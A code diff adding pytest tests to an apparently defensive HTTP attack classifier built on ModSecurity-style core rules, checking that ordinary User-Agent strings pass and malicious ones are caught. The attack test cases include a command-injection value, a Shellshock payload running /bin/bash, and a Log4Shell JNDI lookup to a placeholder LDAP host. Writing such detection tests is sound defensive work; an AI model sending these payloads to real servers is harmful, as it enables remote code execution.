@@ -189,3 +189,35 @@ def test_core_rules_are_read_where_they_are_and_none_where_not(tmp_path: Path) -
     ):
         found = classifier.classify(request)
         assert (found.attack_class if found is not None else None) is kind
+
+
+@pytest.mark.parametrize(
+    "agent",
+    [
+        "PostmanRuntime/7.40.0",
+        "Docker-Client/27.3.1 (linux)",
+        "docker/27.3.1 go/go1.22.7 kernel/6.8.0 os/linux arch/amd64 UpstreamClient(Docker-Client/27.3.1 \\(linux\\))",
+        "Debian APT-HTTP/1.3 (2.9.8)",
+        "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f",
+        "grpc-python/1.66.0 grpc-c/43.0.0 (linux; chttp2)",
+        "aws-cli/2.15.0 Python/3.11.6 Linux/6.1.0 exe/x86_64.debian.12",
+        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+    ],
+)
+def test_honest_clients_names_are_no_attacks(agent: str) -> None:
+    request = Request(headers=(("user-agent", agent),))
+    assert CLASSIFIER.classify(request) is None
+    assert AttackClassifier(KeyedHash(1, bytes(16)).compute, load_core_rules()).classify(request) is None
+
+
+@pytest.mark.parametrize("agent", ["x; docker exec a sh", "a/1.0 () { :;}; /bin/bash -c id", "b/2 ${jndi:ldap://h/a}"])
+def test_attacks_in_clients_names_still_are(agent: str) -> None:
+    assert CLASSIFIER.classify(Request(headers=(("user-agent", agent),))) is not None
+
+
+def test_rules_that_ask_for_a_second_one_beside_are_left_out(tmp_path: Path) -> None:
+    """Half of a chain accuses ordinary words: `runtime` of Java's was an attack by itself."""
+    rule = 'SecRule ARGS \\\n    "@rx %s" \\\n    "id:%d,\\\n    phase:2,\\\n    tag:\'paranoia-level/1\'%s"\n'
+    text = rule % ("alone", 944001, "") + rule % ("runtime", 944002, ",\\\n    chain") + '    SecRule ARGS "@rx x"\n'
+    (tmp_path / "REQUEST-944-X.conf").write_text(text)
+    assert [rule.name for rule in load_core_rules(tmp_path)] == ["944001"]
